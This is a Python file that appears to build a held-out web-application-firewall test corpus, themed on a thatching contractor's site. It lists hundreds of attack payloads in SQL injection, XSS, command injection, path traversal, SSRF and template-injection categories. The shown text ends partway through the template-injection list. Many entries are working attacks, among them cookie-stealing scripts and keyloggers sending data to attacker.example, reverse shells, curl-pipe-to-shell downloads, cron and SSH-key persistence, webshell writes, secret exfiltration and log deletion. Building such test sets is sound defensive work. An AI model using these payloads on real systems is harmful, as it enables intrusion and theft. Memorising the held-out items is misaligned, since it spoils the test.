#!/usr/bin/env python3
"""Attack corpus for a thatching contractor's web app (held-out WAF test).

All payloads are hand-written for this theme. A small minority of values are
generated: (a) a hand-written payload pool joined to hand-written theme
prefixes (class prefix "prefixed-"), or (b) a hand-written payload with every
byte percent-encoded once (class suffix "+urlencode", sqli/traversal only).
"""
import json
import os
import random

SEED = 26902

# (class, value) literals per category ------------------------------------

SQLI = [
    ("union-based", "Ivy Cottage' UNION SELECT username, password_hash, NULL FROM users--"),
    ("union-based", "Q-1042' union all select null,concat(email,':',pw),null,null from customers-- -"),
    ("boolean-blind", "J-2291' AND 1=1-- "),
    ("boolean-blind", "J-2291' AND substring((select password from staff limit 1),1,1)='a'--"),
    ("time-blind", "reed' AND SLEEP(5)-- x"),
    ("time-blind", "1;SELECT pg_sleep(7)--"),
    ("time-blind", "Mill House'; WAITFOR DELAY '0:0:6'--"),
    ("stacked", "PO-4412'; DROP TABLE supply_orders;--"),
    ("stacked", "2291; UPDATE quotes SET total=1 WHERE ref='Q-1042';--"),
    ("error-based", "' AND extractvalue(1,concat(0x7e,(select @@version)))-- "),
    ("error-based", "sedge' AND updatexml(null,concat(0x3a,(SELECT user())),null)#"),
    ("tautology", "Tom' or 'x'='x"),
    ("auth-bypass-comment", "thatchadmin'#"),
    ("order-by-injection", "start_date,(select case when (1=1) then 1 else 1/0 end)"),
    ("order-by-injection", "m2 DESC, IF((SELECT COUNT(*) FROM users)>0,SLEEP(4),0)"),
    ("comment-as-space", "Rose'/**/UNION/**/SELECT/**/card_no,expiry/**/FROM/**/payments#"),
    ("case-mixing", "x' uNiOn SeLeCt 1,table_name,3 FrOm information_schema.tables-- -"),
    ("versioned-comment", "0' /*!50000UNION*/ /*!50000SELECT*/ 1,2,group_concat(column_name) from information_schema.columns where table_name='users'-- -"),
    ("hex-literal", "' union select 1,load_file(0x2f6574632f706173737764),3-- -"),
    ("out-of-band", "'; exec master..xp_dirtree '\\\\attacker.example\\x'--"),
    ("stacked-xp-cmdshell", "Hall Barn'; EXEC xp_cmdshell 'whoami';--"),
    ("out-of-band", "' UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM users LIMIT 1),'.oob.attacker.example\\\\a'))-- -"),
    ("oracle-error", "' AND 1=utl_inaddr.get_host_address((select banner from v$version where rownum=1))--"),
    ("oracle-conditional", "reed' || (SELECT CASE WHEN (1=1) THEN TO_CHAR(1/0) ELSE 'a' END FROM dual) || '"),
    ("sqlite-schema", "' UNION SELECT 1,sql,3 FROM sqlite_master--"),
    ("postgres-copy-program", "'; COPY (SELECT '') TO PROGRAM 'curl http://203.0.113.7/s|sh';--"),
    ("postgres-cast-error", "1 AND 1=CAST((SELECT current_user) AS int)"),
    ("mssql-conditional-time", "1'; IF (SELECT SYSTEM_USER)='sa' WAITFOR DELAY '00:00:05'--"),
    ("numeric-tautology", "142 OR 1=1"),
    ("numeric-time-blind", "2291 AND (SELECT 1 FROM (SELECT SLEEP(3))x)"),
    ("insert-injection", "Tom O'Brien'); INSERT INTO crew(name,role) VALUES ('ghost','admin')--"),
    ("insert-injection", "Great roof!', 5), ('spam review', 5), ('x', (select password from users limit 1))-- "),
    ("boolean-blind", "Norfolk reed' AND ASCII(SUBSTR((SELECT api_key FROM settings),1,1))>77 AND 'a'='a"),
    ("like-boolean", "Mill%' AND 2>1 AND '%'='"),
    ("comment-as-space", "1/**/or/**/1=1"),
    ("tab-whitespace", "'\tUNION\tSELECT\temail,pw_hash\tFROM\tusers#"),
    ("newline-whitespace", "'\nUNION\nSELECT\nNULL,password\nFROM\nstaff--"),
    ("double-url", "%2527%2520OR%25201%253D1--%2520"),
    ("url-encoded-partial", "Ivy%27%20UNION%20SELECT%20null,pw%20FROM%20users--"),
    ("fullwidth", "Mill House＇ ＵＮＩＯＮ ＳＥＬＥＣＴ password,2 ＦＲＯＭ users--"),
    ("json-embedded", "{\"site\":\"Ivy' OR 1=1-- \",\"crew\":\"Tom\"}"),
    ("csv-import-sqli", "J-2400,Rose Cottage',(select password from users limit 1))-- ,2025-01-01,Tom,reed,90"),
    ("union-group-concat", "-1 union select group_concat(username,0x3a,password),2 from users"),
    ("having-error", "quote_ref' having 1=1--"),
    ("group-by-rand-error", "1' GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)-- "),
    ("benchmark", "sedge' and benchmark(5000000,md5('x'))-- "),
    ("heavy-query", "1 AND (SELECT count(*) FROM information_schema.columns A, information_schema.columns B)>0"),
    ("into-outfile", "' UNION SELECT '<?php system($_GET[c]); ?>',2 INTO OUTFILE '/var/www/html/q.php'-- "),
    ("error-based-bigint", "1' AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,(SELECT database()),0x71))s), 8446744073709551610, 8446744073709551610)))-- x"),
    ("boolean-blind", "Thatch End' AND (SELECT 'x' FROM users WHERE username='admin' AND LENGTH(password)>8)='x"),
    ("string-concat", "Q-10'||'42' AND 1=(SELECT 1 FROM pg_user WHERE usename='postgres')--"),
    ("stacked", "0; TRUNCATE job_diary; --"),
    ("stacked", "reed'; ALTER USER app WITH SUPERUSER;--"),
    ("stacked", "'; CREATE USER eve IDENTIFIED BY 'P@ss_placeholder'; GRANT ALL ON *.* TO eve;--"),
    ("time-blind", "1) OR pg_sleep(6)--"),
    ("time-blind-conditional", "x' OR IF(MID(@@version,1,1)='8',SLEEP(5),0) OR 'x'='y"),
    ("parenthesis-tautology", "Hall Barn') OR ('j'='j"),
    ("double-parenthesis", "2291)) OR 1=1 LIMIT 1-- -"),
    ("subquery", "(SELECT password FROM users WHERE id=1)"),
    ("conditional-column", "IF(1=1,site,(SELECT table_name FROM information_schema.tables))"),
    ("scientific-notation", "0e0UNION SELECT password,2 FROM users"),
    ("backtick-identifiers", "1 union select `password`,`email` from `users`"),
    ("char-function", "' UNION SELECT CHAR(97,100,109,105,110),2,3-- "),
    ("mssql-concat", "'+(SELECT TOP 1 name FROM sysobjects WHERE xtype='U')+'"),
    ("procedure-analyse", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)"),
    ("information-schema", "J-1' UNION SELECT schema_name,NULL FROM information_schema.schemata-- "),
    ("boolean-blind-like", "Ivy Cottage' AND 'abc' LIKE (SELECT CONCAT(LEFT(password,1),'%') FROM users LIMIT 1)-- "),
    ("overlong-utf8", "Rose%c0%a7 OR 1=1-- "),
    ("unicode-escape", "{\"ref\":\"Q-1042\\u0027 OR \\u00271\\u0027=\\u00271\"}"),
    ("percent-u", "%u0027%u0020UNION%u0020SELECT%u0020pw%u0020FROM%u0020users--"),
    ("null-byte", "Ivy%00' UNION SELECT 1,2--"),
    ("stacked-in-review", "Loved the new ridge! '; DELETE FROM reviews WHERE rating < 5; --"),
    ("stacked-in-note", "Survey notes: moss heavy on north side\"; UPDATE surveys SET status=\"approved\" WHERE 1=1; -- "),
    ("double-quote-tautology", "reed\" OR \"\"=\""),
]
SQLI_URLENC_POOL = [
    ("union-based", "Mill House' UNION SELECT iban,sort_code FROM bank_details-- -"),
    ("tautology", "' OR 1=1 LIMIT 1 OFFSET 2-- "),
    ("time-blind", "J-2291' AND SLEEP(6)#"),
    ("stacked", "1; DROP TABLE quotes--"),
    ("error-based", "x' AND EXTRACTVALUE(4242,CONCAT(0x5c,(SELECT password FROM users LIMIT 1)))-- "),
    ("union-based", "sedge') UNION SELECT null,@@datadir-- "),
]

XSS = [
    ("script-tag", "Great job on the ridge! <script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("img-onerror", "<img src=x onerror=\"new Image().src='//attacker.example/k?c='+document.cookie\">"),
    ("svg-onload", "Ivy Cottage<svg/onload=alert(document.domain)>"),
    ("attribute-breakout", "\" onmouseover=\"alert(1)\" x=\""),
    ("attribute-breakout", "Tom' autofocus onfocus='fetch(`//attacker.example/${localStorage.token}`)"),
    ("javascript-uri", "javascript:fetch('//attacker.example/'+document.cookie)"),
    ("javascript-uri-obfuscated", "java&#x09;script:alert(1)"),
    ("javascript-uri-obfuscated", "jav&#97;script&colon;alert`1`"),
    ("data-uri", "data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+"),
    ("body-onload", "<body onload=location='//attacker.example/?'+document.cookie>"),
    ("iframe-srcdoc", "<iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\"></iframe>"),
    ("details-ontoggle", "<details open ontoggle=alert(document.domain)>reed</details>"),
    ("case-mixing", "<ScRiPt SrC=//attacker.example/x.js></sCrIpT>"),
    ("entity-encoded-href", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">photos</a>"),
    ("base64-eval", "<video><source onerror=\"eval(atob('YWxlcnQoMSk='))\"></video>"),
    ("input-autofocus", "<input autofocus onfocus=alert(document.cookie)>"),
    ("markdown-link", "[see photos](javascript:alert(document.domain))"),
    ("markdown-image", "![ridge](x\" onerror=\"alert(1))"),
    ("script-src-external", "<script src=https://attacker.example/t.js></script>"),
    ("textarea-breakout", "</textarea><script>alert`xss`</script>"),
    ("title-breakout", "</title><img src=1 onerror=alert(1)>"),
    ("js-string-breakout", "';alert(String.fromCharCode(88,83,83));//"),
    ("js-string-breakout", "\"};fetch('//attacker.example/'+document.cookie);//"),
    ("script-close-breakout", "</script><script>alert(1)</script>"),
    ("svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("svg-xlink", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>Click for quote</text></a></svg>"),
    ("mutation-xss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("object-data", "<object data=\"javascript:alert(1)\"></object>"),
    ("embed-svg-data", "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">"),
    ("form-action", "<form action=javascript:alert(1)><button>Confirm booking</button></form>"),
    ("meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
    ("base-tag", "<base href=\"https://attacker.example/\">"),
    ("dom-clobbering", "<form id=config><input name=apiUrl value=https://attacker.example/api></form>"),
    ("client-side-template", "{{constructor.constructor('alert(1)')()}}"),
    ("client-side-template", "Lovely thatch {{_c.constructor('alert(document.cookie)')()}}"),
    ("unicode-escape", "\\u003cimg src=x onerror=alert(1)\\u003e"),
    ("html-entities-hex", "&#x3C;img src=x onerror=alert(1)&#x3E;"),
    ("double-url", "%253Cscript%253Ealert(1)%253C%252Fscript%253E"),
    ("url-encoded", "%3Csvg%20onload%3Dalert(document.domain)%3E"),
    ("fullwidth", "＜script＞alert(1)＜/script＞"),
    ("null-byte", "<img%00 src=x onerror=alert(1)>"),
    ("newline-in-tag", "<img\nsrc=x\nonerror=\nalert(1)>"),
    ("slash-separator", "<img/src/onerror=alert(1)>"),
    ("backtick-call", "<img src onerror=alert`document.cookie`>"),
    ("fromcharcode", "<img src=x onerror=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>"),
    ("location-hash", "<svg onload=eval(location.hash.slice(1))>"),
    ("dynamic-import", "<img src=x onerror=import('//attacker.example/m.js')>"),
    ("keylogger", "<script>document.onkeypress=e=>fetch('//attacker.example/k?'+e.key)</script>"),
    ("phishing-overlay", "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:#fff\"><form action=https://attacker.example/login method=post>Session expired, please log in: <input name=u><input name=p type=password></form></div>"),
    ("style-import", "<style>@import'//attacker.example/x.css';</style>"),
    ("css-exfiltration", "<style>input[name=csrf][value^=a]{background:url(//attacker.example/a)}</style>"),
    ("marquee", "<marquee onstart=alert(1)>Cheap reed!</marquee>"),
    ("audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("xhtml-namespace", "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>"),
    ("comment-breakout", "--><script>alert(1)</script><!--"),
    ("noscript-mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("json-in-html", "{\"name\":\"</script><svg onload=alert(1)>\"}"),
    ("csv-in-html", "J-2400,<img src=x onerror=alert(1)>,2025-05-01,Tom,reed,40"),
    ("textarea-breakout", "Customer note</textarea><svg onload=confirm(1)>"),
    ("select-breakout", "</option></select><img src=x onerror=alert(1)>"),
    ("vbscript-uri", "<a href=\"vbscript:msgbox(1)\">x</a>"),
    ("srcset-onerror", "<img srcset=\",,,,,x\" onerror=alert(1)>"),
    ("pointer-event", "<p onpointerenter=alert(1)>Hover for the thatch price list</p>"),
    ("contenteditable-onblur", "<div contenteditable onblur=alert(1) autofocus>x</div>"),
    ("string-concat-settimeout", "<img src=x onerror=setTimeout('al'+'ert(1)')>"),
    ("bracket-notation", "<img src=x onerror=top['al'+'ert'](1)>"),
    ("iframe-javascript", "<iframe src=\"javascript:alert(parent.document.cookie)\"></iframe>"),
    ("svg-script-entities", "<svg><script>alert&#40;1&#41;</script></svg>"),
    ("entity-in-event", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>"),
    ("foreignobject", "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>"),
]
XSS_PREFIXES = [
    "Lovely job on the ridge ", "Notes for Rose Cottage: ", "Running late, sorry ",
    "Delivery note DN-5521 ", "Can you quote for the porch? ",
]
XSS_POOL = [
    ("img-onerror", "<img src=q onerror=alert(document.domain)>"),
    ("svg-onload", "<svg onload=fetch('//attacker.example/p?'+document.cookie)>"),
    ("script-tag", "<script>new Image().src='//203.0.113.9/?'+document.cookie</script>"),
    ("details-ontoggle", "<details/open/ontoggle=alert(1)>"),
    ("iframe-javascript", "<iframe src=javascript:alert(2)>"),
]

CMDI = [
    ("semicolon", "IMG_2041.jpg; cat /etc/passwd"),
    ("pipe-netcat", "survey.pdf | nc 203.0.113.5 4444 -e /bin/sh"),
    ("and-chain", "Q-1042 && curl -s http://attacker.example/x.sh | bash"),
    ("or-chain", "ridge.png || wget -qO- 198.51.100.23/a|sh"),
    ("backticks", "Ivy Cottage `id`"),
    ("dollar-paren", "$(whoami).attacker.example"),
    ("newline", "J-2291\ncat /etc/shadow"),
    ("url-newline", "J-2291%0aid"),
    ("ifs-bypass", "x;cat${IFS}/etc/passwd"),
    ("brace-expansion", "x;{cat,/etc/passwd}"),
    ("reverse-shell", "; bash -i >& /dev/tcp/203.0.113.44/9001 0>&1"),
    ("reverse-shell-python", "photo.jpg; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.8\",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("quote-splitting", "a;w'h'o'a'm'i"),
    ("backslash-splitting", "a;c\\at /e\\tc/pa\\sswd"),
    ("glob-wildcard", "; /???/c?t /???/p??s??"),
    ("base64-pipe", "; echo Y3VybCBhdHRhY2tlci5leGFtcGxlL3N8c2g= | base64 -d | sh"),
    ("windows-amp", "report.pdf & type C:\\Windows\\win.ini"),
    ("windows-powershell", "quote.docx | powershell -nop -c \"iwr http://attacker.example/p.ps1|iex\""),
    ("windows-caret", "x & w^h^o^a^m^i"),
    ("powershell-encoded", "& powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBhAHQAdABhAGMAawBlAHIALgBlAHgAYQBtAHAAbABlAC8AcAAuAHAAcwAxACkA"),
    ("dns-exfil", "`nslookup $(hostname).x.attacker.example`"),
    ("time-delay", "Mill House; sleep 10 #"),
    ("time-delay-ping", "|| ping -c 12 127.0.0.1"),
    ("webshell-write", "; echo '<?php system($_GET[0]);?>' > /var/www/html/up/s.php"),
    ("cron-persistence", "; (crontab -l; echo '* * * * * curl -s attacker.example/b|sh') | crontab -"),
    ("ssh-key-persistence", "; mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAAC3placeholderkey eve@attacker.example' >> ~/.ssh/authorized_keys"),
    ("ansi-c-quoting", "a;$'\\x63\\x61\\x74' /etc/passwd"),
    ("variable-concat", "a;c=ca;t=t;$c$t /etc/hosts"),
    ("argument-injection-tar", "--checkpoint=1 --checkpoint-action=exec='sh /tmp/x.sh'"),
    ("argument-injection-ssh", "-oProxyCommand=wget${IFS}-qO-${IFS}attacker.example/r|sh"),
    ("argument-injection-curl", "-o /var/www/html/shell.php http://attacker.example/s.txt"),
    ("imagemagick-mvg", "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://attacker.example/x.jpg\"|curl \"attacker.example/i)'\npop graphic-context"),
    ("filename-substitution", "ridge photo$(curl attacker.example/f).jpg"),
    ("double-quote-breakout", "\"; id; echo \""),
    ("single-quote-breakout", "'; uname -a; echo '"),
    ("process-substitution", "x; bash <(curl -s attacker.example/q)"),
    ("hex-echo", "; echo -e '\\x2fbin\\x2fsh -c id' | sh"),
    ("tab-separator", "x;cat\t/etc/passwd"),
    ("ifs-reverse-shell", "127.0.0.1;nc${IFS}-e${IFS}/bin/sh${IFS}203.0.113.12${IFS}4444"),
    ("perl-reverse-shell", "| perl -e 'use Socket;$i=\"203.0.113.61\";$p=8080;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,\">&S\");exec(\"/bin/sh -i\");'"),
    ("awk-system", ";awk 'BEGIN{system(\"id\")}'"),
    ("find-exec", "; find / -name '*.env' -exec cat {} \\;"),
    ("data-exfil", "; tar czf - /srv/quotes | curl -X POST --data-binary @- https://attacker.example/up"),
    ("destructive", "CO10 9AB; unset HISTFILE; rm -rf /var/log/*"),
    ("windows-certutil", "& certutil -urlcache -split -f http://198.51.100.70/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe"),
    ("windows-comspec", "| %COMSPEC% /c dir C:\\Users"),
    ("windows-crlf", "invoice.pdf\r\nnet user eve P4ss_placeholder /add"),
    ("nested-substitution", "Rose Cottage`curl -s attacker.example/$(id -u)`"),
    ("url-encoded-partial", "J-2291%3Bcat%20%2Fetc%2Fpasswd"),
    ("double-url", "IMG_1.jpg%253B%2520id"),
    ("bracket-glob", "; /bin/c[a]t /e[t]c/p[a]sswd"),
    ("empty-positional", "; w$@hoami"),
    ("rev-pipe", "; echo 'di' | rev | sh"),
    ("xargs", "; echo id | xargs -I{} sh -c {}"),
    ("busybox-netcat", "; busybox nc 203.0.113.5 53 -e sh"),
    ("curl-upload", "$(curl -F f=@/etc/passwd http://attacker.example/u)"),
    ("env-exfil", "`env | curl -d @- attacker.example/e`"),
    ("sed-execute", "; sed -n '1e id' /etc/hostname"),
    ("ping-target", "203.0.113.1 -c 1; id"),
    ("git-ext-transport", "ext::sh -c touch% /tmp/pwned"),
    ("brace-base64", "|bash -c '{echo,aWQ=}|{base64,-d}|bash'"),
    ("python-read", "; python3 -c \"print(open('/etc/passwd').read())\""),
    ("semicolon", "Norfolk reed 120 bundles; ls -la /home"),
    ("background", "quote.pdf & nohup sh -c 'sleep 30; curl attacker.example/k|sh' &"),
]
CMDI_PREFIXES = ["site_photo_2291.jpg", "Ivy Cottage", "PO-4455", "CO10 9AB", "survey-export.csv"]
CMDI_POOL = [
    ("semicolon", "; id"),
    ("pipe", " | cat /etc/hosts"),
    ("and-chain", " && curl attacker.example/z|sh"),
    ("dollar-paren", "$(sleep 8)"),
    ("backticks", "`uname -a`"),
    ("semicolon-download", "; wget -q 198.51.100.9/k -O /tmp/k; sh /tmp/k"),
]

TRAVERSAL = [
    ("dot-dot-slash", "../../../../etc/passwd"),
    ("photo-path", "surveys/2024/SV-2291/../../../../../etc/shadow"),
    ("windows-backslash", "..\\..\\..\\windows\\win.ini"),
    ("url-encoded", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("double-url", "%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("overlong-utf8-slash", "..%c0%af..%c0%af..%c0%afetc/hosts"),
    ("percent-u", "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd"),
    ("nested-strip", "....//....//....//etc/passwd"),
    ("nested-strip", "..././..././..././etc/group"),
    ("null-byte", "../../../etc/passwd%00.jpg"),
    ("unicode-null-text", "quotes/../../../../app/.env\\u0000.pdf"),
    ("absolute-proc", "/proc/self/environ"),
    ("proc", "../../../../proc/self/cmdline"),
    ("app-config", "../../config/database.yml"),
    ("app-config", "../../../var/www/thatcher/.env"),
    ("ssh-key", "../../../../root/.ssh/id_rsa"),
    ("unc-path", "\\\\attacker.example\\share\\quote.pdf"),
    ("mixed-slashes", "..\\/..\\/..\\/boot.ini"),
    ("windows-absolute", "C:\\inetpub\\wwwroot\\web.config"),
    ("windows-encoded", "..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts"),
    ("after-filename", "IMG_2041.jpg/../../../../etc/passwd"),
    ("fullwidth", "．．／．．／．．／etc／passwd"),
    ("unicode-division-slash", "..∕..∕..∕etc∕passwd"),
    ("zip-slip", "../../../../var/www/html/cmd.php"),
    ("zip-slip", "job-photos/../../../../home/thatch/.bashrc"),
    ("log-file", "../../../../var/log/nginx/access.log"),
    ("php-filter", "php://filter/convert.base64-encode/resource=../config.php"),
    ("php-filter", "php://filter/read=string.rot13/resource=index.php"),
    ("double-url-backslash", "..%255c..%255c..%255cwindows%255cwin.ini"),
    ("semicolon-path", "..;/..;/..;/WEB-INF/web.xml"),
    ("web-inf", "/static/../WEB-INF/web.xml"),
    ("encoded-backslash", "%2e%2e%5c%2e%2e%5cetc%5cpasswd"),
    ("half-encoded-dot", ".%2e/.%2e/.%2e/etc/passwd"),
    ("half-encoded-dot", "%2e./%2e./%2e./etc/shadow"),
    ("deep", "../../../../../../../../../../../../etc/hosts"),
    ("k8s-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("proc-environ", "../../../../proc/1/environ"),
    ("cloud-credentials", "../../../../home/ubuntu/.aws/credentials"),
    ("git-config", "../../.git/config"),
    ("after-document", "/quotes/Q-1042.pdf/../../../../etc/passwd"),
    ("template-include", "templates/../../../../etc/passwd"),
    ("query-param", "/download?file=..%2F..%2F..%2Fetc%2Fpasswd"),
    ("overlong-3byte", "..%e0%80%af..%e0%80%afetc/passwd"),
    ("windows-ads", "..\\..\\..\\windows\\win.ini::$DATA"),
    ("windows-sam", "photos\\..\\..\\..\\..\\Windows\\System32\\config\\SAM"),
]
TRAVERSAL_URLENC_POOL = [
    ("dot-dot-slash", "surveys/../../../../../etc/shadow"),
    ("windows-backslash", "..\\..\\..\\..\\windows\\system32\\config\\SAM"),
    ("dot-dot-slash", "photos/2291/../../../../root/.bash_history"),
    ("app-config", "../../../app/config/secrets.yml"),
]

SSRF = [
    ("cloud-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("cloud-metadata-gcp", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("cloud-metadata-azure", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("decimal-ip", "http://2852039166/latest/meta-data/"),
    ("hex-ip", "http://0xa9fea9fe/latest/user-data"),
    ("octal-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("localhost", "http://127.0.0.1:8080/admin/users"),
    ("short-ip", "http://127.1/server-status"),
    ("ipv6-loopback", "http://[::1]:6379/"),
    ("ipv6-mapped", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("zero-ip", "http://0.0.0.0:9200/_cat/indices"),
    ("rfc1918", "http://10.0.0.12:8500/v1/kv/?recurse"),
    ("rfc1918", "http://192.168.1.1/cgi-bin/luci"),
    ("internal-service", "http://redis.internal:6379/"),
    ("gopher-redis", "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn%5Cn*%2F1%20*%20*%20*%20*%20bash%20-c%20%27sh%20-i%20%3E%26%20%2Fdev%2Ftcp%2F203.0.113.4%2F9001%200%3E%261%27%5Cn%5Cn%22%0D%0ACONFIG%20SET%20dir%20%2Fvar%2Fspool%2Fcron%2F%0D%0ASAVE%0D%0A"),
    ("gopher-smtp", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cquotes%40thatch.local%3E%0D%0A"),
    ("dict-scheme", "dict://127.0.0.1:11211/stats"),
    ("file-scheme", "file:///etc/passwd"),
    ("file-scheme-windows", "file://localhost/c:/windows/win.ini"),
    ("userinfo-confusion", "https://attacker.example@169.254.169.254/latest/meta-data/"),
    ("dns-rebinding", "http://rebind.attacker.example/latest/meta-data/"),
    ("open-redirect-chain", "https://attacker.example/r?to=http://169.254.169.254/latest/meta-data/"),
    ("kubernetes-api", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("docker-api", "http://127.0.0.1:2375/containers/json"),
    ("elasticsearch", "http://localhost:9200/_search?q=*"),
    ("enclosed-alphanumerics", "http://①②⑦.⓪.⓪.①:8080/"),
    ("url-encoded-host", "http://%31%32%37%2e%30%2e%30%2e%31/admin"),
    ("mixed-hex-ip", "http://0x7f.0.0.1/admin"),
    ("decimal-localhost", "http://2130706433:9000/"),
    ("backslash-confusion", "http://attacker.example\\@127.0.0.1/"),
    ("fragment-confusion", "http://127.0.0.1:22#.attacker.example"),
    ("ftp-internal", "ftp://10.1.2.3/backup/quotes.sql"),
    ("ldap-scheme", "ldap://127.0.0.1:389/%0astats%0aquit"),
    ("jar-scheme", "jar:http://attacker.example/x.zip!/a.txt"),
    ("netdoc-scheme", "netdoc:///etc/passwd"),
    ("alibaba-metadata", "http://100.100.100.200/latest/meta-data/"),
    ("oracle-metadata", "http://192.0.0.192/latest/"),
    ("aws-ipv6-metadata", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("webhook-json", "{\"webhook_url\":\"http://127.0.0.1:8025/api/v1/messages\"}"),
    ("svg-image-fetch", "<svg xmlns:xlink=\"http://www.w3.org/1999/xlink\"><image xlink:href=\"http://169.254.169.254/latest/meta-data/hostname\"/></svg>"),
    ("html-to-pdf-iframe", "<iframe src=\"http://localhost:8000/admin/export\" width=800 height=800></iframe>"),
    ("html-to-pdf-file-read", "<script>x=new XMLHttpRequest;x.open('GET','file:///etc/passwd',false);x.send();document.write(x.responseText)</script>"),
    ("zero-short", "http://0/"),
    ("rfc1918", "http://172.16.0.5:8080/manager/html"),
    ("etcd", "http://127.0.0.1:2379/v2/keys/?recursive=true"),
]
SSRF_PREFIXES = ["Photo import: ", "Supplier price list: ", "Weather feed ", "Webhook for job updates: ", "Review widget src="]
SSRF_POOL = [
    ("cloud-metadata", "http://169.254.169.254/latest/meta-data/iam/info"),
    ("localhost", "http://127.0.0.1:5984/_all_dbs"),
    ("ipv6-mapped", "http://[0:0:0:0:0:ffff:127.0.0.1]:8080/"),
    ("rfc1918", "http://10.10.0.2:15672/api/users"),
    ("localhost", "http://localhost:8500/v1/agent/self"),
]

CODE = [
    ("ssti-jinja2", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("ssti-jinja2", "Dear {{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}, your quote is ready"),
    ("ssti-jinja2-config", "{{ config.items() }}"),
    ("ssti-jinja2-subclasses", "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if 'Popen' in c.__name__ %}{{ c(['id'],stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("ssti-jinja2-filter-bypass", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f') }}"),
    ("ssti-jinja2", "{{ lipsum.__globals__['os'].popen('curl attacker.example/j|sh').read() }}"),
    ("ssti-twig", "{{ ['id']|filter('system') }}"),
    ("ssti-twig", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"whoami\")}}"),
    ("ssti-freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("ssti-freemarker", "${\"freemarker.template.utility.Execute\"?new()(\"cat /etc/hosts\")}"),
    ("ssti-velocity", "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("ssti-erb", "<%= `id` %>"),
    ("ssti-erb", "<%= File.read('/etc/passwd') %>"),
    ("ssti-erb", "Hello <%= system('curl attacker.example/r | sh') %>"),
    ("ssti-smarty", "{system('id')}"),
    ("ssti-smarty", "{php}echo shell_exec('ls');{/php}"),
    ("ssti-handlebars", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return process.mainModule.require('child_process').execSync('cat /etc/hostname');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"),
    ("ssti-pug", "#{root.process.mainModule.require('child_process').execSync('id')}"),
    ("ssti-ejs", "<%= global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>"),
    ("ssti-mako", "<% import os; x=os.popen('id').read() %>${x}"),
    ("ssti-tornado", "{% import os %}{{ os.popen('whoami').read() }}"),
    ("ssti-razor", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("ssti-thymeleaf", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("spel", "#{T(java.lang.Runtime).getRuntime().exec('curl attacker.example/s')}"),
